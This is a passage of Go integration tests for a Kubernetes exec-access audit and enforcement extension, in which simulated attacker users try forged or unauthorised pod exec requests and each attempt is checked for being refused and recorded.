			_ = admin.Create(s.Context(), role)
		}
		return s.denied(s.exec("forged", url.Values{"command": {"true"}}), "access-request")
	},
	"what is allowed, as a proof that the rest is refused for a reason": func(s siege) string {
		if a := s.command("true"); strings.Contains(a.Body, "denied the request") {
			s.Errorf("%s", a)
		}
		return ""
	},
}

// denied wants a refusal by a rule.
func (s siege) denied(a testkit.Answer, rule string) (through string) {
	s.Helper()
	if !strings.Contains(a.Body, "rule "+rule+":") {
		return a.String()
	}
	return ""
}

// grant makes a request of the attacker, and its record, as the access extension does.
func (s siege) grant(name, pod string, change func(*v1alpha1.ExecAccessRequest)) *v1alpha1.ExecAccessRequest {
	s.Helper()
	req := &v1alpha1.ExecAccessRequest{ObjectMeta: metav1.ObjectMeta{Namespace: s.ns, Name: name}}
	req.Spec.TemplateName, req.Spec.Duration, req.Spec.Requester = "any", "1h", &v1alpha1.Requester{Username: s.user.Name}
	if change != nil {
		change(req)
	}
	var in corev1.Pod
	if err := admin.Get(s.Context(), client.ObjectKey{Namespace: s.ns, Name: pod}, &in); err != nil {
		s.Fatal(err)
	}
	testkit.Create(s.T, admin, req)
	testkit.Create(s.T, admin, s.grantRole(req, &in))
	return req
}

// grantRole is the record of a grant.
func (s siege) grantRole(req *v1alpha1.ExecAccessRequest, pod *corev1.Pod) *rbacv1.Role {
	return &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{
			Namespace: s.ns, Name: v1alpha1.ExecAccessPrefix + req.Name,
			Labels: map[string]string{v1alpha1.LabelManagedBy: v1alpha1.ManagedByAccess, v1alpha1.LabelPodUID: string(pod.UID)},
			Annotations: map[string]string{
				v1alpha1.AnnotationRequestUID: string(req.UID), v1alpha1.AnnotationPodUID: string(pod.UID),
				v1alpha1.AnnotationSubjects: fmt.Sprintf(`[{"kind":"User","name":%q}]`, s.user.Name),
			},
		},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/exec", "pods/attach", "pods/portforward"}, ResourceNames: []string{pod.Name}, Verbs: []string{"create", "get"}}},
	}
}

// besiege makes each attempt, as a user of its own.
func besiege(t *testing.T, ns string, kept *memory, parallel bool, attempts map[string]attempt, tried, through *atomic.Int32, before func(siege)) {
	for name, attempt := range attempts {
		t.Run(name, func(t *testing.T) {
			if parallel {
				t.Parallel()
			}
			user, err := cluster.AddUser(fmt.Sprint("mallory-", tried.Add(1)), "attackers")
			if err != nil {
				t.Fatal(err)
			}
			s := siege{t, ns, user, kept}
			if before != nil {
				before(s)
			}
			if what := attempt(s); what != "" {
				through.Add(1)
				t.Errorf("this went through: %s", what)
			}
		})
	}
}

// nobodyActsUnseen tries what is written above.
func nobodyActsUnseen(t *testing.T) {
	if err := testkit.Apply(t.Context(), cluster, attackers); err != nil {
		t.Fatal(err)
	}
	var tried, through atomic.Int32
	t.Run("siege", func(t *testing.T) {
		t.Run("records", func(t *testing.T) {
			t.Parallel()
			ns, kept := testkit.ManagerNamespace(t, admin), &memory{}
			start(t, ns, audit.Options{
				// All attempts are made at once, and a loaded API server needs more than the default for some.
				Sinks:       []audit.SinkOptions{{Sink: kept}, {Sink: auditevent.New(auditevent.Options{FoldAfter: foldAfter}), Timeout: audit.MaxTimeout}},
				TouchedPods: &audit.TouchedPods{},
				Clock:       clocktesting.NewFakeClock(time.Now()), // all of a flood is in one minute
			})
			runPod(t, ns, "shop")
			t.Run("records", func(t *testing.T) { besiege(t, ns, kept, true, attemptsOnRecords, &tried, &through, nil) })
			t.Run("the CRD", func(t *testing.T) { besiege(t, ns, kept, false, attemptsOnTheCRD, &tried, &through, nil) })
		})
		t.Run("enforcement", func(t *testing.T) {
			t.Parallel()
			ns, kept := testkit.ManagerNamespace(t, admin), &memory{}
			start(t, ns, audit.Options{
				Sinks:       []audit.SinkOptions{{Sink: kept}},
				Enforcement: &audit.Enforcement{Namespaces: []string{ns}, ExemptGroups: []string{"oncall"}, ForbidTTY: true},
			})
			terminal := plain(ns, "terminal")
			terminal.Spec.Containers[0].TTY, terminal.Spec.Containers[0].Stdin = true, true
			testkit.Create(t, admin, terminal, plain(ns, "other"))
			runPod(t, ns, "shop")
			t.Run("enforcement", func(t *testing.T) {
				besiege(t, ns, kept, true, attemptsOnEnforcement, &tried, &through, func(s siege) {
					s.grant("shop-"+s.user.Name, "shop", nil)
					s.grant("terminal-"+s.user.Name, "terminal", nil)
				})
			})
		})
	})
	testkit.Figure("attack.audit_tried", float64(tried.Load()), "attempts")
	testkit.Figure("attack.audit_through", float64(through.Load()), "attempts")
}
